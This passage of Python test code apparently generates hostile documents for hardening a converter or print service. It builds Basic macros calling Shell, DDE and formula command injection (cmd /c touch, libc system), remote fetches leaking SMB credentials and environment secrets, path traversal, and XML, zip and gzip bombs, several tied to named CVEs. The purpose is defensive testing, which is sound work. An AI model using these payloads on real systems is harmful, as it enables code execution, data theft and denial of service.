        "Basic/Standard/script-lb.xml": office.XML + '<library:library %s library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>' % library,
        "Basic/Standard/M.xml": office.XML + '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">%s</script:module>' % office.escape(lines),
    }


FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> %s </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
         '<w:r><w:t>as saved</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def offices(p):
    q = lambda text: office.escape(text, {'"': "&quot;"})  # noqa: E731
    shell = 'Sub Main\nShell("/usr/bin/touch", 1, "%s")\nOpen "%s" For Output As #1\nPrint #1, "x"\nClose #1\nThisComponent.Text.String = Environ("SECRET")\nEnd Sub\n' % (p.made, p.made)
    yield ODT, "a macro of Basic", office.odt("seen", more=basic(shell), scripts=event("vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document")), (PRINTED,)
    # CVE-2018-16858: a script of Python by a path out of its folder.
    yield ODT, "a script of Python (CVE-2018-16858)", office.odt("seen", scripts=event("vnd.sun.star.script:../../../../usr/lib/python3/dist-packages/x.py$main?language=Python&amp;location=share")), (PRINTED,)
    # CVE-2023-6186, CVE-2024-3044, CVE-2022-3140: commands behind addresses and events.
    for name, address in (("dispatch", ".uno:OpenUrl?URL:string=" + p.http), ("macro", "macro:///Standard.M.Main()"), ("service", "service:com.sun.star.script.vba?x"),
                          ("command", "vnd.libreoffice.command:Standard.M.Main"), ("slot", "slot:5500"), ("script", "vnd.sun.star.script:Gimmicks.AutoText.Main?language=Basic&amp;location=share")):
        body = '<text:p><text:a xlink:type="simple" xlink:href="%s"><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="%s" xlink:type="simple"/>' \
               '</office:event-listeners>seen</text:a></text:p>' % (q(address), q(address))
        yield ODT, "a command in an address: %s (CVE-2023-6186)" % name, office.odt("x", body=body, scripts=event(q(address), "office:new")), (PRINTED,)
    # CVE-2018-10583: a share on another machine, to which the password would be told. CVE-2024-12426: an address out of the environment.
    places = (("an address", p.http), ("a name", "http://%s/x" % p.name), ("a file", "file://" + p.secret), ("a share (CVE-2018-10583)", p.smb), ("a share in a file's address", "file://%s/share/x.png" % p.address),
              ("the environment (CVE-2024-12426)", "vnd.sun.star.expand:http://%s/$SECRET" % p.address), ("a package", "vnd.sun.star.pkg://file%3A%2F%2F" + p.secret.replace("/", "%2F") + "/x"),
              ("WebDAV", "vnd.sun.star.webdav://%s/x" % p.address), ("FTP", "ftp://%s/x" % p.address))
    things = "".join(frame('<draw:image xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>' % q(place)) for _, place in places)
    yield ODT, "pictures from everywhere", office.odt("seen", body=things), (PRINTED,)
    for name, place in places:
        body = frame('<draw:image xlink:href="%s" xlink:type="simple" xlink:actuate="onLoad"/>' % q(place))
        # CVE-2023-2255: frames that float fetched what they show without asking.
        body += frame('<draw:floating-frame xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>' % q(place))
        body += frame('<draw:object xlink:href="%s" xlink:type="simple" xlink:actuate="onLoad"/>' % q(place)) + frame('<draw:plugin xlink:href="%s" draw:mime-type="x"/>' % q(place))
        body += '<text:section text:name="s"><text:section-source xlink:href="%s" text:filter-name="Text"/><text:p>seen</text:p></text:section>' % q(place)
        if name in ("an address", "a file", "a share (CVE-2018-10583)", "the environment (CVE-2024-12426)"):
            yield ODT, "frames, objects and parts from %s (CVE-2023-2255)" % name, office.odt("seen", body=body), (PRINTED,)
    fields = ('INCLUDETEXT "%s"' % p.secret, 'INCLUDEPICTURE "%s" \\d' % p.http, 'INCLUDEPICTURE "%s" \\d' % p.smb, 'DDEAUTO soffice "%s" x' % p.secret, 'DDE cmd "/c touch %s"' % p.made, 'LINK Word.Document "%s" a' % p.http,
              'FILENAME \\p', 'DOCPROPERTY x', 'IMPORT "%s"' % p.http, 'RD "%s"' % p.secret, 'HYPERLINK "%s"' % p.smb, 'AUTOTEXT x', 'MACROBUTTON x y')
    yield WORD, "fields", office.docx("seen", body="".join(FIELD % office.escape(f) for f in fields)), (PRINTED,)
    links = [("h%d" % n, kind, place, True) for n, (kind, place) in enumerate((kind, place) for kind in ("attachedTemplate", "image", "oleObject", "aFChunk", "frame", "subDocument", "hyperlink") for place in (p.http, "file://" + p.secret, p.smb))]
    chunks = "".join('<w:altChunk r:id="%s"/>' % row[0] for row in links if row[1] == "aFChunk") + "".join('<w:subDoc r:id="%s"/>' % row[0] for row in links if row[1] == "subDocument")
    yield WORD, "links of every kind", office.docx("seen", body=chunks, links=links), (PRINTED, DAMAGED)
    cells = ("seen", '=_xlfn.WEBSERVICE("%s")' % p.http, '=HYPERLINK("%s")' % p.http, "='[%s]Sheet1'!A1" % p.secret, "=cmd|'/c touch %s'!A1" % p.made, '=CALL("libc","system","JC","touch %s")' % p.made,
             '=REGISTER("libc","system","JC")', '=INFO("directory")', '=CELL("filename")')
    yield EXCEL, "formulas", office.xlsx(*cells), (PRINTED, DAMAGED)
    yield ODS, "formulas of Calc", office.ods("seen", '=WEBSERVICE("%s")' % p.http, '=DDE("soffice";"%s";"A1")' % p.secret, "='file://%s'#$One.A1" % p.secret, '=INFO("system")'), (PRINTED,)
    laugh_head, laugh = laughs(tag="w:document")
    yield WORD, "laughs", parts_changed(office.docx("x"), **{"word/document.xml": laugh_head + "<w:document %s><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>" % (office.W, laugh)}), ANY
    yield ODT, "laughs of ODF", office.open_document("text", (laughs(tag="x")[0] + "<x>" + laughs()[1] + "</x>").encode()), ANY
    yield WORD, "text that unpacks to 512 MiB", zip_bomb("word/document.xml", office.docx("x"), 512 * MIB), LIMITS + (PRINTED,)
    yield WORD, "a picture that unpacks to 1 GiB", zip_bomb("word/media/image1.png", office.docx("x"), 1024 * MIB), ANY
    yield WORD, "20,000 parts", parts_changed(office.docx("x"), **{"word/x%d.xml" % n: b"" for n in range(20000)}), ANY
    yield WORD, "parts with paths out of it", parts_changed(office.docx("seen"), **{"../../../.." + p.made: b"x", p.made: b"x"}), ANY
    yield WORD, "an archive that is cut", office.docx("x" * 3000)[:-300], BROKEN
    yield WORD, "an archive of no document", office.archive({"[Content_Types].xml": "<", "word/document.xml": "<"}), BROKEN
    yield WORD, "a document with a password", office.compound("EncryptedPackage"), (PASSWORD, REFUSED)
    yield WORD, "tables 3,000 deep", office.docx("x", body="<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000), ANY
    yield ODT, "an ODT that is a DOCX", office.docx("x"), ANY
    repeated = '<office:spreadsheet><table:table table:name="One"><table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>'
    yield ODS, "17 thousand million cells", office.open_document("spreadsheet", repeated), ANY
    yield ODS, "a formula of itself, a million times", office.ods(*("=[.A%d]+[.A%d]" % (n % 5000 + 1, (n + 1) % 5000 + 1) for n in range(5000))), ANY
    yield ODP, "5,000 slides", office.odp(*("x" for _ in range(5000))), LIMITS
    # CVE-2021-25631, CVE-2014-0247 and others: what an RTF brings along or names.
    yield "application/rtf", "objects and templates", "{\\rtf1\\ansi seen {\\*\\template %s}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 01050000020000000b00000057%s}}{\\field{\\*\\fldinst INCLUDEPICTURE \"%s\" \\\\d}}\\par}" % (p.http, "41" * 200, p.smb), ANY
    yield "application/rtf", "brackets 100,000 deep", "{\\rtf1 " + "{" * 100000, ANY
    yield "application/rtf", "a picture of 2^31 octets", "{\\rtf1 {\\pict\\pngblip\\picw2147483647\\pich2147483647\\bin2147483647 x}}", ANY
    yield "application/msword", "a DOC of one sector that follows itself", bytes.fromhex("d0cf11e0a1b11ae1").ljust(44, b"\0") + b"\1\0\0\0" + bytes(20) + b"\0\0\0\0" * 111 + b"\0\0\0\0" * 128 + "WordDocument".encode("utf-16-le").ljust(512, b"\0"), BROKEN + LIMITS + (FORMAT,)


def zip_bomb(name, archive, size):
    """One part of the archive is zeros, as many."""
    octets = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(octets, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as new:
        for other in old.namelist():
            if other != name:
                new.writestr(_at(other), old.read(other))
        with new.open(_at(name), "w", force_zip64=True) as part:
            part.write(b'<?xml version="1.0"?><w:document %s><w:body><w:p><w:r><w:t>' % office.W.encode())
            for _ in range(size // MIB):
                part.write(b" " * MIB)
    return octets.getvalue()


def mislabelled(p):
    yield PDF, "a program that is called PDF", b"\x7fELF\2\1\1" + bytes(9000), (REFUSED,)
    yield PDF, "nothing at all", b"", (REFUSED,)
    yield "image/png", "a PDF that is called PNG", one_page(b"0 0 9 9 re f"), ANY
    yield "text/plain", "PostScript that is called text", "%%!PS\n(%%pipe%%touch %s) (w) file (x) writestring showpage" % p.made, ANY
    yield "application/octet-stream", "an archive of nothing", office.archive({"x": "y"}), (REFUSED, FORMAT, DAMAGED)
    yield "application/octet-stream", "commands for printers", b"\x1bE\x1b&l0O\x1b%-12345X@PJL RDYMSG DISPLAY=\"x\"\r\n", (REFUSED,)
    yield "application/octet-stream", "PCL XL", b") HP-PCL XL;2;0\n" + bytes(100), (REFUSED,)
    yield PDF, "an archive behind a PDF", one_page(b"0 0 9 9 re f") + office.docx("x"), ANY


def packed(beginning=b"%PDF-1.7\n", size=2048 * MIB):
    """What a door is sent as gzip or deflate: (name, the coding, octets). None of it is a document in the end."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(beginning) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    whole = gzip.compress(one_page(b"0 0 9 9 re f"), mtime=0)
    yield "2 GiB as gzip", "gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + head + piece * (size // MIB) + b"\3\0" + bytes(8)
    yield "2 GiB as deflate", "deflate", head + piece * (size // MIB) + b"\3\0"
    yield "gzip that is cut", "gzip", whole[:-9]
    yield "gzip with something behind it", "gzip", whole + b"more"
    yield "gzip with a sum that is not its", "gzip", whole[:-8] + bytes(8)
    yield "gzip of gzip", "gzip", gzip.compress(gzip.compress(bomb(512 * MIB), mtime=0), mtime=0)
    yield "gzip of nothing", "gzip", gzip.compress(b"", mtime=0)
    yield "no gzip at all", "gzip", one_page(b"")


def documents(places):
    """All of them."""
    for name, octets, outcomes in pdfs(places):
        yield Document("PDF: " + name, PDF, octets, outcomes)
    for name, octets, outcomes in postscripts(places):
        octets = octets if octets.startswith("%!") else "%!PS-Adobe-3.0\n" + octets + "\n"
        yield Document("PostScript: " + name, PS, octets, outcomes)
    for media_type, name, octets, outcomes in pictures(places):
        yield Document("picture: " + name, media_type, octets, outcomes)
    for name, octets, outcomes in svgs(places):
        yield Document("SVG: " + name, "image/svg+xml", octets, outcomes)
    for name, octets, outcomes in htmls(places):
        yield Document("HTML: " + name, "text/html", octets, outcomes)
    for media_type, name, octets, outcomes in texts(places):
        yield Document("text: " + name, media_type, octets, outcomes)
    if office.is_there():
        for media_type, name, octets, outcomes in offices(places):
            yield Document("office: " + name, media_type, octets, outcomes)
    for media_type, name, octets, outcomes in mislabelled(places):
        yield Document("mislabelled: " + name, media_type, octets, outcomes)
